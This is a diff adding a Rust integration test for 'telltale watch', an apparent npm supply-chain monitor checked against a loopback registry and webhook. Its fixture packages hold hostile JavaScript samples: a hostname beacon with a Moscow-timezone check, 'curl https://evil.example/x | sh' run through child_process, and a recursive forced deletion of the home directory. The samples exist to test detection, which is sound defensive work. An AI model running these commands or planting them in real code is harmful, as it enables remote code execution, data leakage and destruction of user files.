@@ -1,0 +1,377 @@
+//! `telltale watch` against a registry on loopback whose packages are published during the
+//! test (with `ETag`s, and 500s, 429s and garbage on request), and a webhook on loopback.
+//! Each `--once` run is a new process: a restart between publishes.
+
+mod common;
+
+use common::telltale;
+use std::collections::{HashMap, VecDeque};
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::path::Path;
+use std::sync::{Arc, Mutex};
+use telltale_registry::testing::sri;
+
+/// What the registry answers to the next document requests, before answering properly.
+#[derive(Clone, Copy)]
+enum Fault {
+    Status(u16, Option<u64>),
+    Garbage,
+}
+
+#[derive(Clone, Default)]
+struct Shared {
+    routes: Arc<Mutex<HashMap<String, Vec<u8>>>>,
+    docs: Arc<Mutex<HashMap<String, serde_json::Value>>>,
+    faults: Arc<Mutex<VecDeque<Fault>>>,
+    document_requests: Arc<Mutex<usize>>,
+}
+
+struct Registry {
+    url: String,
+    shared: Shared,
+}
+
+fn read_head(stream: &mut std::net::TcpStream) -> (String, Vec<(String, String)>) {
+    let (line, headers, _) = read_request(stream);
+    (line, headers)
+}
+
+/// The request line, headers and body (by `Content-Length`), read through one buffer.
+fn read_request(stream: &mut std::net::TcpStream) -> (String, Vec<(String, String)>, Vec<u8>) {
+    let mut reader = BufReader::new(stream.try_clone().unwrap());
+    let mut line = String::new();
+    reader.read_line(&mut line).unwrap_or(0);
+    let mut headers = Vec::new();
+    loop {
+        let mut h = String::new();
+        if reader.read_line(&mut h).unwrap_or(0) <= 2 {
+            break;
+        }
+        if let Some((k, v)) = h.trim_end().split_once(':') {
+            headers.push((k.trim().to_ascii_lowercase(), v.trim().to_string()));
+        }
+    }
+    let len: usize = headers
+        .iter()
+        .find(|(k, _)| k == "content-length")
+        .and_then(|(_, v)| v.parse().ok())
+        .unwrap_or(0);
+    let mut body = vec![0u8; len];
+    let _ = reader.read_exact(&mut body);
+    (line, headers, body)
+}
+
+impl Registry {
+    fn start() -> Registry {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}/", listener.local_addr().unwrap());
+        let shared = Shared::default();
+        let s = shared.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                let s = s.clone();
+                std::thread::spawn(move || {
+                    let (line, headers) = read_head(&mut stream);
+                    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
+                    let is_doc = !path.contains("/-/");
+                    let respond = |stream: &mut std::net::TcpStream,
+                                   status: u16,
+                                   extra: &str,
+                                   body: &[u8]| {
+                        let head = format!("HTTP/1.1 {status} X\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n", body.len());
+                        let _ = stream.write_all(head.as_bytes());
+                        let _ = stream.write_all(body);
+                    };
+                    if is_doc {
+                        *s.document_requests.lock().unwrap() += 1;
+                        if let Some(f) = s.faults.lock().unwrap().pop_front() {
+                            match f {
+                                Fault::Status(code, after) => {
+                                    let extra = after
+                                        .map(|a| format!("Retry-After: {a}\r\n"))
+                                        .unwrap_or_default();
+                                    respond(&mut stream, code, &extra, b"busy");
+                                }
+                                Fault::Garbage => respond(&mut stream, 200, "", b"<html>not json"),
+                            }
+                            return;
+                        }
+                    }
+                    let body = s.routes.lock().unwrap().get(&path).cloned();
+                    match body {
+                        None => respond(&mut stream, 404, "", b"{}"),
+                        Some(body) if is_doc => {
+                            let etag = format!(
+                                "\"{}\"",
+                                body.len() * 31 + body.iter().map(|b| *b as usize).sum::<usize>()
+                            );
+                            let matches = headers
+                                .iter()
+                                .any(|(k, v)| k == "if-none-match" && *v == etag);
+                            if matches {
+                                respond(&mut stream, 304, &format!("ETag: {etag}\r\n"), b"");
+                            } else {
+                                respond(&mut stream, 200, &format!("ETag: {etag}\r\n"), &body);
+                            }
+                        }
+                        Some(body) => respond(&mut stream, 200, "", &body),
+                    }
+                });
+            }
+        });
+        Registry { url, shared }
+    }
+
+    /// Publish `name@version` with this `index.js`.
+    fn publish(&self, name: &str, version: &str, index_js: &str) {
+        let tgz = tarball(name, version, index_js);
+        let path = format!("/{name}/-/{name}-{version}.tgz");
+        let mut docs = self.shared.docs.lock().unwrap();
+        let doc = docs.entry(name.to_string()).or_insert_with(
+            || serde_json::json!({ "name": name, "dist-tags": {}, "versions": {}, "time": {} }),
+        );
+        let n = doc["versions"].as_object().unwrap().len();
+        doc["versions"][version] = serde_json::json!({
+            "name": name, "version": version,
+            "dist": { "tarball": format!("{}{}", self.url, &path[1..]), "integrity": sri(&tgz) }
+        });
+        doc["time"][version] = serde_json::json!(format!("2026-01-01T00:00:{n:02}.000Z"));
+        doc["dist-tags"]["latest"] = serde_json::json!(version);
+        let mut routes = self.shared.routes.lock().unwrap();
+        routes.insert(path, tgz);
+        routes.insert(format!("/{name}"), serde_json::to_vec(doc).unwrap());
+    }
+
+    fn fail_next(&self, faults: &[Fault]) {
+        self.shared
+            .faults
+            .lock()
+            .unwrap()
+            .extend(faults.iter().copied());
+    }
+}
+
+fn tarball(name: &str, version: &str, index_js: &str) -> Vec<u8> {
+    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
+        Vec::new(),
+        flate2::Compression::fast(),
+    ));
+    let manifest = format!(r#"{{"name":"{name}","version":"{version}","main":"index.js"}}"#);
+    for (path, body) in [
+        ("package/package.json", manifest.as_str()),
+        ("package/index.js", index_js),
+    ] {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(body.len() as u64);
+        header.set_mode(0o644);
+        header.set_cksum();
+        builder
+            .append_data(&mut header, path, body.as_bytes())
+            .unwrap();
+    }
+    builder.into_inner().unwrap().finish().unwrap()
+}
+
+/// A webhook on loopback that keeps every body posted to it.
+fn webhook() -> (String, Arc<Mutex<Vec<String>>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/hook", listener.local_addr().unwrap());
+    let got = Arc::new(Mutex::new(Vec::new()));
+    let g = got.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let (_, _, body) = read_request(&mut stream);
+            g.lock()
+                .unwrap()
+                .push(String::from_utf8_lossy(&body).into_owned());
+            let _ = stream
+                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+        }
+    });
+    (url, got)
+}
+
+fn watch(reg: &Registry, dir: &Path, hook: &str) -> std::process::Output {
+    telltale()
+        .args(["watch", "--once", "--platform", "none", "x"])
+        .args(["--registry", &reg.url])
+        .arg("--store")
+        .arg(dir.join("store.sqlite"))
+        .arg("--log")
+        .arg(dir.join("alerts.jsonl"))
+        .args(["--webhook", hook])
+        .env("TELLTALE_CACHE_DIR", dir.join("cache"))
+        .output()
+        .unwrap()
+}
+
+fn alerts(out: &std::process::Output) -> Vec<serde_json::Value> {
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
+        .collect()
+}
+
+const BENIGN: &str = "module.exports = function add(a, b) { return a + b; };\n";
+const PHONES_HOME: &str = "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
+if (tz === 'Europe/Moscow') { console.log('Слава'); }\n\
+fetch('https://api.mixpanel.com/track', { method: 'POST', body: JSON.stringify({ host: require('os').hostname() }) });\n\
+module.exports = function add(a, b) { return a + b; };\n";
+
+#[test]
+fn a_new_version_that_phones_home_by_region_is_one_alert_everywhere() {
+    let reg = Registry::start();
+    let dir = tempfile::tempdir().unwrap();
+    let (hook, posted) = webhook();
+    reg.publish("x", "1.0.0", BENIGN);
+
+    // First look: the versions there now are known, nothing is alerted.
+    let out = watch(&reg, dir.path(), &hook);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(alerts(&out).is_empty());
+    assert!(String::from_utf8_lossy(&out.stderr)
+        .contains("now watching (1 versions known, the latest 1.0.0)"));
+
+    // A version adding a telemetry host and a region condition, behind a flaky registry.
+    reg.publish("x", "1.1.0", PHONES_HOME);
+    reg.fail_next(&[
+        Fault::Status(500, None),
+        Fault::Status(429, Some(1)),
+        Fault::Garbage,
+    ]);
+    let out = watch(&reg, dir.path(), &hook);
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    let got = alerts(&out);
+    assert_eq!(got.len(), 1, "{stderr}");
+    let a = &got[0];
+    assert_eq!(
+        (a["package"].as_str(), a["from"].as_str(), a["to"].as_str()),
+        (Some("npm:x"), Some("1.0.0"), Some("1.1.0"))
+    );
+    let aspects: Vec<&str> = a["changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["aspect"].as_str().unwrap())
+        .collect();
+    assert!(aspects.contains(&"region"), "{a}");
+    assert!(aspects.contains(&"endpoint"), "{a}");
+    let region = a["changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["aspect"] == "region")
+        .unwrap();
+    assert_eq!(region["countries"], serde_json::json!(["RU"]));
+    assert!(region["location"]
+        .as_str()
+        .unwrap()
+        .starts_with("package/index.js:"));
+    let log = std::fs::read_to_string(dir.path().join("alerts.jsonl")).unwrap();
+    assert_eq!(log.lines().count(), 1);
+    assert_eq!(
+        serde_json::from_str::<serde_json::Value>(log.trim()).unwrap(),
+        *a
+    );
+    assert_eq!(posted.lock().unwrap().len(), 1);
+    assert_eq!(
+        serde_json::from_str::<serde_json::Value>(&posted.lock().unwrap()[0]).unwrap(),
+        *a
+    );
+
+    // Nothing new: the document is unchanged (304), no alert.
+    let before = *reg.shared.document_requests.lock().unwrap();
+    let out = watch(&reg, dir.path(), &hook);
+    assert!(alerts(&out).is_empty());
+    assert_eq!(*reg.shared.document_requests.lock().unwrap(), before + 1);
+
+    // The same code again under a new version number: nothing that matters changed.
+    reg.publish("x", "1.1.1", PHONES_HOME);
+    let out = watch(&reg, dir.path(), &hook);
+    assert!(
+        alerts(&out).is_empty(),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    assert!(String::from_utf8_lossy(&out.stderr)
+        .contains("1.1.1: nothing that matters changed since 1.1.0"));
+
+    // Two publishes with a restart between them: one alert each, none repeated.
+    reg.publish(
+        "x",
+        "1.2.0",
+        &format!(
+            "{PHONES_HOME}require('child_process').exec('curl https://evil.example/x | sh');\n"
+        ),
+    );
+    let first = alerts(&watch(&reg, dir.path(), &hook));
+    reg.publish("x", "1.3.0", &format!("{PHONES_HOME}require('child_process').exec('curl https://evil.example/x | sh');\nrequire('https').get('https://ipinfo.io/json', () => {{}});\n"));
+    let second = alerts(&watch(&reg, dir.path(), &hook));
+    assert_eq!(first.len(), 1);
+    assert_eq!(first[0]["to"], "1.2.0");
+    assert_eq!(second.len(), 1);
+    assert_eq!(second[0]["to"], "1.3.0");
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("alerts.jsonl"))
+            .unwrap()
+            .lines()
+            .count(),
+        3
+    );
+    assert_eq!(posted.lock().unwrap().len(), 3);
+
+    // Two watchers on one store at once: the alert goes out once.
+    reg.publish("x", "1.4.0", &format!("{PHONES_HOME}require('fs').rmSync(require('os').homedir(), {{ recursive: true, force: true }});\n"));
+    let spawn = || {
+        telltale()
+            .args(["watch", "--once", "--platform", "none", "x"])
+            .args(["--registry", &reg.url])
+            .arg("--store")
+            .arg(dir.path().join("store.sqlite"))
+            .env("TELLTALE_CACHE_DIR", dir.path().join("cache"))
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap()
+    };
+    let (a, b) = (spawn(), spawn());
+    let both: usize = [a, b]
+        .into_iter()
+        .map(|c| alerts(&c.wait_with_output().unwrap()).len())
+        .sum();
+    assert_eq!(both, 1, "one alert between two watchers");
+
+    // The digest: every alert sent, oldest first.
+    let out = telltale()
+        .args([
+            "query",
+            "alerts",
+            "--since",
+            "2020-01-01",
+            "--format",
+            "json",
+            "--store",
+        ])
+        .arg(dir.path().join("store.sqlite"))
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let text = String::from_utf8_lossy(&out.stdout);
+    for key in ["npm|x|1.1.0", "npm|x|1.2.0", "npm|x|1.3.0", "npm|x|1.4.0"] {
+        assert!(text.contains(key), "{key} in {text}");
+    }
+    assert_eq!(text.matches("npm|x|").count(), 4, "{text}");
+}
